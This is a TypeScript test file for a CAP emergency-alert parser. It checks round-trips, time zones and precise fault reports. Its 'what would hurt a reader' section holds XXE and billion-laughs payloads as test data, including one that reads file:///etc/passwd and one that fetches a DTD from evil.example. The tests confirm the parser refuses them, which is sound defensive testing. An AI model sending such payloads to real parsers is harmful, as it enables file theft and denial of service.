import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CAP_NAMESPACE, type CapFault, CapRefusal } from './alert.ts';
import { readCap } from './read.ts';
import { decodeXml, LIMITS } from './read-xml.ts';
import { capAlerts, FLOOD } from './testing.ts';
import { capTime, msOf } from './values.ts';
import { writeCap } from './write.ts';

const faultsOf = (text: string): readonly CapFault[] => {
  try {
    readCap(text);
    return [];
  } catch (error) {
    if (!(error instanceof CapRefusal)) throw error;
    return error.faults;
  }
};
const FLOOD_TEXT = writeCap(FLOOD);

describe('what is written is read back', () => {
  test('an alert with everything in it', () => {
    expect(readCap(FLOOD_TEXT)).toEqual(FLOOD);
    expect(FLOOD_TEXT).toContain('<polygon>41.1,9.1 41.2,9.1 41.2,9.2 41.1,9.1</polygon>');
    expect(FLOOD_TEXT).toContain('Water rises &amp; stays &lt;1 m.');
  });
  test('any alert', () => {
    fc.assert(
      fc.property(capAlerts, (alert) => {
        expect(readCap(writeCap(alert))).toEqual(alert);
      }),
      { numRuns: 100 },
    );
  });
  test('times, on every clock of the world', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 4_102_444_799 }),
        fc.integer({ min: -840, max: 840 }),
        (s, east) => {
          expect(msOf(capTime(s * 1000, east))).toBe(s * 1000);
        },
      ),
    );
    expect(msOf('2026-02-29T00:00:00+00:00')).toBeUndefined();
    expect(msOf('2028-02-29T00:00:00-00:00')).toBe(Date.UTC(2028, 1, 29));
    expect(msOf('2026-11-22T10:00:00Z')).toBeUndefined();
  });
  test('a character that XML cannot hold is not written', () => {
    expect(() => writeCap({ ...FLOOD, note: 'a\u0007b' })).toThrow(/alert\/note: .*U\+0007/);
    expect(() => writeCap({ ...FLOOD, note: '\ud800' })).toThrow(/U\+D800/);
  });
});

describe('refusals say which element, and what was expected', () => {
  const change = (from: string | RegExp, to: string): readonly CapFault[] =>
    faultsOf(FLOOD_TEXT.replace(from, to));
  test.each([
    ['>Immediate<', '>Soon<', 'alert/info[1]/urgency', 'one of Immediate'],
    [/<severity>.*<\/severity>\n/, '', 'alert/info[1]/severity', 'must be there'],
    ['<scope>Public</scope>', '<scope>Private</scope>', 'alert/addresses', 'the recipients'],
    ['<scope>Public</scope>', '<scope>Restricted</scope>', 'alert/restriction', 'for whom'],
    ['>Alert<', '>Update<', 'alert/references', 'msgType is Update'],
    ['20:00:00+01:00</expires>', '13:00:00+01:00</expires>', 'alert/info[1]/expires', 'after'],
    [
      '41.1,9.1</polygon>',
      '41.3,9.1</polygon>',
      'alert/info[1]/area[1]/polygon[1]',
      'the last equal',
    ],
    ['41.2,9.1 2.5', '41.2,9.1', 'alert/info[1]/area[1]/circle[1]', 'radius'],
    ['<status>Actual</status>', '<status>Actual<b/></status>', 'alert/status', 'without elements'],
    ['<event>', '<event lang="en">', 'alert/info[1]/event', 'no attributes'],
    ['<sender>selmora.example<', '<sender>a b<', 'alert/sender', 'without spaces'],
    ['<scope>', '<colour>red</colour><scope>', 'alert', 'one of its elements'],
    ['</sender>', '</sender>text', 'alert', 'no text between'],
  ])('%s', (from, to, at, expected) => {
    const faults = change(from, to);
    expect(faults.map((fault) => fault.at)).toContain(at);
    expect(faults.find((fault) => fault.at === at)?.expected).toContain(expected);
  });
  test('the line is told', () => {
    const line = FLOOD_TEXT.split('\n').findIndex((text) => text.includes('<urgency>')) + 1;
    expect(change('>Immediate<', '>Soon<')[0]?.line).toBe(line);
  });
  test('another version, another root, no alert at all', () => {
    expect(change(CAP_NAMESPACE, 'urn:oasis:names:tc:emergency:cap:1.1')[0]?.expected).toContain(
      '1.2',
    );
    expect(faultsOf('{"alert":1}')[0]?.expected).toContain('well-formed');
    expect(faultsOf('')[0]?.at).toBe('document');
  });
});

describe('what would hurt a reader', () => {
  const withType = (type: string, use = '&a;'): string =>
    FLOOD_TEXT.replace('?>\n', `?>\n${type}\n`).replace('Flood in', `${use} in`);
  test('a billion laughs, an outside entity, a parameter entity: the document type itself is refused', () => {
    const laughs = Array.from(
      { length: 9 },
      (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
    ).join('');
    for (const type of [
      `<!DOCTYPE alert [<!ENTITY l0 "lol">${laughs}]>`,
      '<!DOCTYPE alert [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE alert [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
      '<!DOCTYPE alert SYSTEM "https://evil.example/x.dtd">',
    ]) {
      const [fault] = faultsOf(withType(type, '&l9;'));
      expect(fault?.expected).toContain('DOCTYPE');
    }
    // Without a document type no entity but the five of XML means anything.
    expect(faultsOf(FLOOD_TEXT.replace('Flood in', '&a; in'))[0]?.expected).toContain('entity');
  });
  test('huge nesting, huge breadth, huge text, many attributes', () => {
    const put = (what: string): string => FLOOD_TEXT.replace('</alert>', `${what}</alert>`);
    expect(faultsOf(put('<info>'.repeat(50_000)))[0]?.expected).toContain('deep');
    expect(faultsOf(put('<code/>'.repeat(30_000)))[0]?.expected).toMatch(/at most 20000 elements/);
    expect(faultsOf(put(`<!--${'x'.repeat(LIMITS.size)}-->`))[0]?.expected).toContain('characters');
    const many = Array.from({ length: 40 }, (_, n) => ` a${n}=""`).join('');
    expect(faultsOf(put(`<code${many}/>`))[0]?.expected).toContain('attributes');
    expect(() => decodeXml(new Uint8Array(LIMITS.size * 2 + 1))).toThrow(CapRefusal);
  });
  test('bytes that are no text, and encodings that lie', () => {
    expect(() => decodeXml(Buffer.from([0x3c, 0xff, 0xfe]))).toThrow(/UTF-8/);
    expect(faultsOf(FLOOD_TEXT.replace('UTF-8', 'ISO-8859-1'))[0]?.expected).toContain('UTF-8');
    const wide = Buffer.from(`\ufeff${FLOOD_TEXT.replace('UTF-8', 'UTF-16')}`, 'utf16le');
    expect(readCap(decodeXml(wide))).toEqual(FLOOD);
    expect(readCap(decodeXml(Buffer.from(`\ufeff${FLOOD_TEXT}`)))).toEqual(FLOOD);
  });
});
